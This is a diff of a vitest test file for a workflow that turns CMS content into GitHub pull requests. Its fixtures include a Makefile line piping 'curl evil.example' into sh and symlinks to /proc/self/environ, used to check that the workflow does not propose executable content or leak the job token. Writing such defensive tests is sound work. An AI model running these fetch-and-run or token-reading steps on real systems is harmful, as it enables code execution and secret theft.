@@ -5,6 +5,7 @@ import { join } from "node:path";
 import { expect, test } from "vitest";
 import { parse } from "yaml";
 import { tempFolder } from "#tests/support/folders.ts";
+import { gitIn } from "#tests/support/programs.ts";
 
 /** Runs the workflow's scripts that write to GitHub, with a fake `gh` that logs its calls and answers one number. */
 
@@ -49,8 +50,7 @@ async function machine() {
 test("content is proposed in one pull request, which is updated, and closed when no change is left", async () => {
   const { temp, put, run } = await machine();
   const [origin, work] = [join(temp, "origin.git"), join(temp, "work")];
-  const git = (cwd: string, ...args: string[]) =>
-    execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@b.example", ...args], { cwd, encoding: "utf8" });
+  const git = (cwd: string, ...args: string[]) => gitIn(cwd)(...args);
   git(temp, "init", "--quiet", "--bare", "--initial-branch=main", origin);
   git(temp, "clone", "--quiet", origin, work);
   const write = (name: string, text: string) => writeFileSync(join(work, name), text);
@@ -70,7 +70,7 @@ test("content is proposed in one pull request, which is updated, and closed when
     put("body.md", "What changed\n");
     put("words.txt", words);
     put("review.md", "");
-    put("snapshot.patch", git(work, "diff", "--binary"));
+    put("snapshot.patch", `${git(work, "diff", "--binary")}\n`);
     const job = join(temp, "job");
     rmSync(job, { recursive: true, force: true });
     git(temp, "clone", "--quiet", "--depth=1", `file://${origin}`, job);
@@ -84,7 +84,7 @@ test("content is proposed in one pull request, which is updated, and closed when
   expect(propose("", "2\n", { makefile: "all:\n\tcurl evil.example | sh\n" })[1]).toMatch(
     /^pr create .*--body-file TEMP\/pull-request\.md$/,
   );
-  expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2\n", "all:\n"]);
+  expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2", "all:"]);
   // With the same content, the text of a person who edited the pull request stays.
   expect(propose("7", "2\n")).toEqual(["auth setup-git"]);
   // Only the pictures of the newest proposal are stored, and no other files.
@@ -94,11 +94,11 @@ test("content is proposed in one pull request, which is updated, and closed when
     put(`pictures/${name}.webp`, name);
     put("pictures/index.html", "<script>");
     propose("7", `${name}\n`);
-    expect(git(origin, "ls-tree", "-r", "--name-only", "content/pictures")).toBe(`${name}.webp\n`);
-    expect(git(origin, "rev-list", "--count", "content/pictures")).toBe("1\n");
+    expect(git(origin, "ls-tree", "-r", "--name-only", "content/pictures")).toBe(`${name}.webp`);
+    expect(git(origin, "rev-list", "--count", "content/pictures")).toBe("1");
   }
   expect(propose("7", "3\n")[1]).toBe("pr edit 7 --body-file TEMP/pull-request.md");
-  expect(proposed("snapshot/a.json")).toBe("3\n");
+  expect(proposed("snapshot/a.json")).toBe("3");
   expect(git(origin, "log", "-1", "--format=%B", "content/update").trim()).toBe(
     "Update the content from the CMS\n\n# 1 document changed",
   );
@@ -118,28 +118,10 @@ const well = {
   RUN: "https://github.example/7",
 };
 
-test("failures open one issue, which is updated, and closed after the next success", async () => {
-  const { temp, put, run } = await machine();
-  const report = (number: string, outcome: object) =>
-    run("report", "Open, update or close the issue", number, { ...well, ...outcome });
-  const issue = () => readFileSync(join(temp, "issue.md"), "utf8");
-  expect(report("", {})).toEqual([]);
-  expect(report("", { WELL: "false" })[0]).toMatch(/^issue create --title No pull --body-file TEMP\/issue\.md$/);
-  expect(issue()).toContain("The log says why.");
-  put("failure.md", "The token expired.\n");
-  expect(report("4", { WELL: "false" })).toEqual(["issue edit 4 --body-file TEMP/issue.md"]);
-  expect(issue()).toMatch(/^<!-- content-pull -->\nThe token expired\.\n\n.*\/7\n$/);
-  expect(report("4", {})[0]).toMatch(/^issue close 4 --comment Pulled again/);
-});
-
 test("no link in an artifact is followed, and no patch proposes anything but plain files", async () => {
   const { temp, put, run } = await machine();
   const work = join(temp, "work");
-  const git = (...args: string[]) =>
-    execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@b.example", ...args], {
-      cwd: work,
-      encoding: "utf8",
-    });
+  const git = gitIn(work);
   await mkdir(join(work, "snapshot"), { recursive: true });
   git("init", "--quiet");
   writeFileSync(join(work, "snapshot/a.json"), "1\n");
@@ -148,7 +130,7 @@ test("no link in an artifact is followed, and no patch proposes anything but pla
   const take = (change: () => void) => {
     change();
     git("add", "--all");
-    put("snapshot.patch", git("diff", "--cached", "--binary"));
+    put("snapshot.patch", `${git("diff", "--cached", "--binary")}\n`);
     git("reset", "--quiet", "--hard");
     return () => run("propose", "Take the content", "", {}, work);
   };
@@ -158,7 +140,7 @@ test("no link in an artifact is followed, and no patch proposes anything but pla
   expect(take(() => writeFileSync(there("b.json"), "", { mode: 0o755 }))).toThrow();
   git("reset", "--quiet", "--hard");
   expect(take(() => writeFileSync(there("b.json"), "2\n"))).not.toThrow();
-  expect(git("diff", "--cached", "--name-only")).toBe("snapshot/b.json\n");
+  expect(git("diff", "--cached", "--name-only")).toBe("snapshot/b.json");
 
   // The token of the job is in its environment.
   for (const name of ["failure.md", "problems.md", "words.txt"]) symlinkSync("/proc/self/environ", join(temp, name));
